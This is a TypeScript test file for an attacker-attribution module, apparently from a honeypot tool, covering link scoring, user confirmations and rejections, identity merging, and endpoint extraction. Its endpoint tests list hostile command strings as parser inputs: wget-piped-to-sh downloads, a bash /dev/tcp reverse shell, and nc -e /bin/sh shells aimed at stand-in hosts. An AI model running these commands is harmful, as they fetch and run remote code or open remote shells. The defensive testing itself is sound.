import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  combinedScore,
  commandSequences,
  identityChanges,
  identityUuidOf,
  linkAttackers,
  networkEndpoints,
  stubIdentityUuid,
  survivorOf,
  unmergeDecisions,
  type AttackerEvidence,
  type LinkDecision,
  type Linking,
} from './support/attribution.ts';
import { at, evidence } from './support/evidence.ts';
import { addressesOf, wordList, type Operator } from './simulated/operators.ts';

const [A, B, C, D] = ['192.0.2.1', '192.0.2.2', '192.0.2.3', '192.0.2.4'];
const joinedTools = { hassh: ['hassh-1'], c2: ['203.0.113.9:443'] };

/** The addresses of each identity, by address. */
function groups(linking: Linking, all: readonly AttackerEvidence[]): readonly string[][] {
  const addresses = new Map(all.map((one) => [one.attacker_uuid, one.address ?? '']));
  return linking.identities
    .map(({ members }) => members.map((member) => addresses.get(member) ?? '').sort())
    .sort();
}

function statusOf(
  linking: Linking,
  a: string | null | undefined,
  b: string | null | undefined,
): string | undefined {
  const pair = [at(a ?? ''), at(b ?? '')];
  return linking.links.find(({ left, right }) => pair.includes(left) && pair.includes(right))
    ?.status;
}

function decided(kind: LinkDecision['kind'], a: string, b: string, when = 1): LinkDecision {
  return { kind, left: at(a), right: at(b), at: when };
}

describe('the score of a pair', () => {
  test('no single signal joins, whatever its strength', () => {
    for (const signal of [
      'digraph_profile',
      'c2_endpoint',
      'payload_hash',
      'hassh',
      'ja3',
    ] as const) {
      expect(combinedScore({ [signal]: 1 })).toBeCloseTo(0.7, 12);
    }
    expect(combinedScore({ command_sequences: 1 })).toBeCloseTo(0.4, 12);
    expect(combinedScore({ credentials: 1 })).toBeCloseTo(0.15, 12);
    expect(combinedScore({ asn: 1 })).toBeCloseTo(0.05, 12);
    expect(combinedScore({ digraph_simhash: 1, address: 1 })).toBe(0);
  });

  test('one signal a family: the same thing said twice counts once', () => {
    expect(combinedScore({ c2_endpoint: 1, payload_hash: 1 })).toBeCloseTo(0.7, 12);
    expect(combinedScore({ hassh: 1, ja3: 1 })).toBeCloseTo(0.7, 12);
  });

  test('a second family joins', () => {
    expect(combinedScore({ hassh: 1, payload_hash: 1 })).toBeCloseTo(0.91, 12);
    expect(combinedScore({ digraph_profile: 1, hassh: 1 })).toBeCloseTo(0.91, 12);
    expect(combinedScore({ digraph_profile: 0.5, command_sequences: 1 })).toBeCloseTo(0.61, 12);
  });
});

describe('links', () => {
  test('two strong families join, one makes a candidate, less is not shown', () => {
    const all = [
      evidence(A, joinedTools),
      evidence(B, joinedTools),
      evidence(C, { hassh: ['hassh-1'] }),
      evidence(D, { credentials: ['root:root'], asn: 'AS64496' }),
      evidence('192.0.2.5', { credentials: ['root:root'], asn: 'AS64496' }),
    ];
    const linking = linkAttackers(all);
    expect(groups(linking, all)).toEqual([[A, B]]);
    expect(statusOf(linking, A, B)).toBe('joined');
    expect(statusOf(linking, A, C)).toBe('candidate');
    expect(statusOf(linking, D, '192.0.2.5')).toBeUndefined();
  });

  test('infrastructure does not count when every fingerprint that both have differs', () => {
    const all = [
      evidence(A, { c2: ['203.0.113.9:443'], payloads: ['p'], hassh: ['h1'] }),
      evidence(B, { c2: ['203.0.113.9:443'], payloads: ['p'], hassh: ['h2'] }),
      evidence(C, { c2: ['203.0.113.9:443'], payloads: ['p'] }),
    ];
    const linking = linkAttackers(all);
    expect(statusOf(linking, A, B)).toBeUndefined();
    expect(statusOf(linking, A, C)).toBe('candidate');
    expect(linking.evidenceOf(at(A), at(B))).toMatchObject([
      { signal: 'c2_endpoint', counts: false, match: 1 },
      { signal: 'payload_hash', counts: false, match: 1 },
    ]);
  });

  test('the evidence is in words, and neither credentials nor commands are among them', () => {
    const secret = 'root:hunter2';
    const all = [A, B].map((address) =>
      evidence(address, {
        ...joinedTools,
        credentials: [secret],
        sequences: ['TA0007:abc', 'TA0007:def'],
        simhashes: ['00000000000000ff'],
        asn: 'AS64496',
      }),
    );
    const signals = linkAttackers(all).evidenceOf(at(A), at(B));
    expect(signals.map(({ signal }) => signal)).toEqual([
      'digraph_simhash',
      'c2_endpoint',
      'hassh',
      'command_sequences',
      'credentials',
      'asn',
    ]);
    expect(JSON.stringify(signals)).not.toContain(secret);
    expect(JSON.stringify(signals)).not.toContain('TA0007:abc');
    expect(signals.find(({ signal }) => signal === 'c2_endpoint')?.explanation).toContain(
      '203.0.113.9:443',
    );
    expect(signals.find(({ signal }) => signal === 'digraph_simhash')).toMatchObject({
      strength: 'none',
      counts: false,
    });
  });

  test('command sequences that many show are not rare', () => {
    const crowd = Array.from({ length: 60 }, (_, i) =>
      evidence(`198.51.100.${i}`, { sequences: ['TA0007:common', 'TA0007:too'] }),
    );
    expect(linkAttackers(crowd).links).toEqual([]);
    expect(linkAttackers(crowd.slice(0, 40)).links.length).toBeGreaterThan(0);
  });

  test('of a word list the part counts that both tried', () => {
    const all = [
      evidence(A, { hassh: ['h'], credentials: wordList('list', 40) }),
      evidence(B, { hassh: ['h'], credentials: wordList('list', 10) }),
    ];
    const [credentials] = linkAttackers(all)
      .evidenceOf(at(A), at(B))
      .filter(({ signal }) => signal === 'credentials');
    expect(credentials?.match).toBe(1);
  });
});

describe("a user's decision", () => {
  const all = [A, B, C].map((address) => evidence(address, joinedTools));

  test('confirms what the machine only suspects, or does not see at all', () => {
    const strangers = [evidence(A), evidence(B)];
    const linking = linkAttackers(strangers, [decided('confirmed', B, A)]);
    expect(groups(linking, strangers)).toEqual([[A, B]]);
    expect(statusOf(linking, A, B)).toBe('confirmed');
  });

  test('rejects what the machine would join, also by way of others', () => {
    const linking = linkAttackers(all, [decided('rejected', A, B)]);
    expect(statusOf(linking, A, B)).toBe('rejected');
    for (const { members } of linking.identities) {
      expect(members.includes(at(A)) && members.includes(at(B))).toBe(false);
    }
    const [ac, bc] = [statusOf(linking, A, C), statusOf(linking, B, C)];
    expect([ac, bc].sort()).toEqual(['joined', 'kept_apart']);
  });

  test('survives re-runs in any order, and more evidence', () => {
    const decisions = [decided('rejected', A, B), decided('confirmed', A, C, 2)];
    const more = [...all, evidence(D, joinedTools)];
    const first = linkAttackers(more, decisions);
    const again = linkAttackers([...more].reverse(), [...decisions].reverse());
    expect(again.identities).toEqual(first.identities);
    expect(again.links).toEqual(first.links);
    expect(statusOf(first, A, B)).toBe('rejected');
    expect(groups(first, more).flat()).toContain(D);
  });

  test('the later decision about a pair holds', () => {
    const changed = [decided('rejected', A, B, 1), decided('confirmed', B, A, 2)];
    expect(statusOf(linkAttackers(all, changed), A, B)).toBe('confirmed');
    expect(statusOf(linkAttackers(all, [...changed].reverse()), A, B)).toBe('confirmed');
  });

  test('that contradicts a rejection by way of others is told, not carried out', () => {
    const strangers = [A, B, C].map((address) => evidence(address));
    const linking = linkAttackers(strangers, [
      decided('rejected', A, B, 1),
      decided('confirmed', A, C, 2),
      decided('confirmed', B, C, 3),
    ]);
    expect(groups(linking, strangers)).toEqual([[A, C].sort()]);
    expect(statusOf(linking, B, C)).toBe('contradicted');
  });

  test('about an attacker nobody knows any more changes nothing', () => {
    const linking = linkAttackers(all, [decided('confirmed', A, '203.0.113.99')]);
    expect(groups(linking, all)).toEqual([[A, B, C].sort()]);
  });

  test('takes an attacker out of an identity, for good', () => {
    const members = [A, B, C].map(at);
    const leaving = at(B);
    const decisions = unmergeDecisions(
      [leaving],
      members.filter((member) => member !== leaving),
      5,
    );
    const linking = linkAttackers(all, decisions);
    expect(groups(linking, all)).toEqual([[A, C].sort()]);
    const grown = [...all, evidence(D, joinedTools)];
    expect(groups(linkAttackers(grown, decisions), grown).flat()).not.toContain(B);
  });

  test('confirming in a circle makes one identity', () => {
    const strangers = [A, B, C].map((address) => evidence(address));
    const linking = linkAttackers(strangers, [
      decided('confirmed', A, B),
      decided('confirmed', B, C),
      decided('confirmed', C, A),
    ]);
    expect(groups(linking, strangers)).toEqual([[A, B, C].sort()]);
  });
});

describe('identities', () => {
  const all = [A, B, C].map((address) => evidence(address, joinedTools));
  const stubs = [A, B, C].map((address) => stubIdentityUuid(at(address))).sort();

  test('go by the lowest uuid', () => {
    expect(linkAttackers(all).identities.map(({ identity_uuid }) => identity_uuid)).toEqual([
      stubs[0],
    ]);
    expect(identityUuidOf([at(C), at(A), at(B)])).toBe(stubs[0]);
  });

  test('are formed, and swallow the others', () => {
    const after = linkAttackers(all).identities;
    const { events, moved, mergedInto } = identityChanges([], after, 1000);
    expect(events.map(({ topic, payload }) => [topic, payload['loser_uuid'] ?? null])).toEqual([
      ['identity.formed', null],
      ['identity.merged', stubs[1]],
      ['identity.merged', stubs[2]],
    ]);
    expect(events[0]?.payload).toEqual({
      identity_uuid: stubs[0],
      members: [A, B, C].map(at).sort(),
    });
    expect(moved).toHaveLength(2);
    expect([...mergedInto.values()]).toEqual([stubs[0], stubs[0]]);
    expect(identityChanges(after, after, 2000).events).toEqual([]);
  });

  test('fall apart again when the user says so', () => {
    const before = linkAttackers(all).identities;
    const after = linkAttackers(all, unmergeDecisions([at(A)], [at(B), at(C)], 1)).identities;
    const { events, moved } = identityChanges(before, after, 3000);
    const unmerged = events.filter(({ topic }) => topic === 'identity.unmerged');
    expect(unmerged).toHaveLength(1);
    expect(moved.length).toBeGreaterThan(0);
    expect(identityChanges(before, [], 3000).events.map(({ topic }) => topic)).toEqual([
      'identity.unmerged',
      'identity.unmerged',
    ]);
  });

  test('merged into each other in a circle: the lowest stands for all of them', () => {
    const circle = new Map([
      ['b', 'c'],
      ['c', 'a'],
      ['a', 'b'],
      ['x', 'c'],
      ['self', 'self'],
    ]);
    for (const uuid of ['a', 'b', 'c', 'x']) expect(survivorOf(uuid, circle)).toBe('a');
    expect(survivorOf('self', circle)).toBe('self');
    expect(survivorOf('elsewhere', circle)).toBe('elsewhere');
    expect(
      survivorOf(
        'p',
        new Map([
          ['p', 'q'],
          ['q', 'r'],
        ]),
      ),
    ).toBe('r');
  });
});

describe('whatever the evidence and the decisions', () => {
  const addresses = Array.from({ length: 12 }, (_, i) => `198.51.100.${i + 1}`);
  const values = fc.subarray(['1', '2', '3']);
  const worlds = fc.tuple(
    fc.array(fc.record({ hassh: values, c2: values, payloads: values, sequences: values }), {
      minLength: addresses.length,
      maxLength: addresses.length,
    }),
    fc.array(
      fc.record({
        kind: fc.constantFrom('confirmed' as const, 'rejected' as const),
        left: fc.constantFrom(...addresses.map(at)),
        right: fc.constantFrom(...addresses.map(at)),
        at: fc.integer({ min: 1, max: 5 }),
      }),
      { maxLength: 8 },
    ),
  );

  test('the order of evidence does not matter, and rejected pairs are never together', () => {
    fc.assert(
      fc.property(worlds, ([fields, decisions]) => {
        const all = addresses.map((address, i) => evidence(address, fields[i]));
        const linking = linkAttackers(all, decisions);
        expect(linkAttackers([...all].reverse(), decisions).identities).toEqual(linking.identities);
        for (const { left, right, status } of linking.links) {
          const together = linking.identities.some(
            ({ members }) => members.includes(left) && members.includes(right),
          );
          if (status === 'joined' || status === 'confirmed') expect(together).toBe(true);
          if (status === 'rejected') expect(together).toBe(false);
        }
        const seen = linking.identities.flatMap(({ members }) => members);
        expect(new Set(seen).size).toBe(seen.length);
      }),
      { numRuns: 60 },
    );
  });
});

describe('a group too large for all pairs', () => {
  const crowd = Array.from({ length: 400 }, (_, i) =>
    evidence(`10.${i >> 8}.${i & 255}.1`, {
      hassh: ['stock'],
      ...(i % 8 === 0 ? { c2: ['c:1'] } : {}),
    }),
  );

  test('still joins all that share a second family', () => {
    const linking = linkAttackers(crowd);
    expect(linking.identities).toHaveLength(1);
    expect(linking.identities[0]?.members).toHaveLength(50);
  });

  test('does not show more candidates than a person can look through', () => {
    const { links } = linkAttackers(crowd);
    expect(links.length).toBeLessThan(400 * 8);
  });

  test('finds nearly all hands in it that would be joined if they were alone', () => {
    const tools = { hassh: ['stock'] };
    const operators = Array.from({ length: 300 }, (_, i): Operator => {
      const addresses = i < 30 ? [`203.0.${i}.1`, `203.0.${i}.2`] : [`198.51.${i % 200}.${i}`];
      return { hands: i + 1, offsets: 'personal', samples: 300, tools, addresses };
    });
    const all = operators.map((operator) => addressesOf(operator, 1));
    const crowded = linkAttackers(all.flat());
    const pairs = all.slice(0, 30).filter((pair) => linkAttackers(pair).identities.length > 0);
    const found = pairs.filter(([a, b]) => statusOf(crowded, a?.address, b?.address) === 'joined');
    expect(pairs.length).toBeGreaterThan(20);
    expect(found.length / pairs.length).toBeGreaterThanOrEqual(0.95);
  });
});

describe('what evidence is made of', () => {
  test('command sequences are three commands within one tactic, without what varies', () => {
    const line = (text: string, ...tactics: string[]) => ({ text, tactics });
    const one = commandSequences([
      line('uname -a', 'TA0007'),
      line('wget http://203.0.113.9/x', 'TA0011'),
      line('cat   /proc/cpuinfo', 'TA0007'),
      line('w', 'TA0007'),
    ]);
    const other = commandSequences([
      line('uname -a', 'TA0007'),
      line('cat /proc/cpuinfo', 'TA0007'),
      line('w', 'TA0007'),
    ]);
    expect(one).toEqual(other);
    expect(one).toHaveLength(1);
    expect(one[0]).toMatch(/^TA0007:[0-9a-f]{24}$/);
    const fetch = (url: string) =>
      commandSequences([`cd /tmp`, `wget ${url}`, 'sh x'].map((text) => line(text, 'TA0002')));
    expect(fetch('http://203.0.113.9/x')).toEqual(fetch('http://198.51.100.1/y'));
    expect(
      commandSequences([line('a', 'T'), { text: null, tactics: ['T'] }, line('b', 'T')]),
    ).toEqual([]);
  });

  test.each([
    ['wget http://Evil.example:8080/a.sh -O- | sh', ['evil.example:8080']],
    ['curl -s https://203.0.113.9/x', ['203.0.113.9']],
    ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', ['203.0.113.7:4444']],
    ['nc -e /bin/sh 203.0.113.7 9001', ['203.0.113.7:9001']],
    ['nc -lvp 4444', []],
    ['nc 203.0.113.7 9001 -e /bin/sh', ['203.0.113.7:9001']],
    ['tftp -g -r x 203.0.113.7', ['203.0.113.7']],
    ['wget https://raw.githubusercontent.com/x/y', []],
    ['curl http://192.168.1.1/', []],
    ['echo hello', []],
  ])('endpoints of %s', (text, endpoints) => {
    expect(networkEndpoints(text)).toEqual(endpoints);
  });

  test('endpoints of hostile text are found in linear time', () => {
    const started = performance.now();
    for (const text of [
      'nc '.repeat(50_000),
      'wget '.repeat(50_000),
      `http://${'a'.repeat(200_000)}`,
      'nc -a '.repeat(50_000),
    ]) {
      networkEndpoints(text);
    }
    expect(performance.now() - started).toBeLessThan(2000);
  });
});
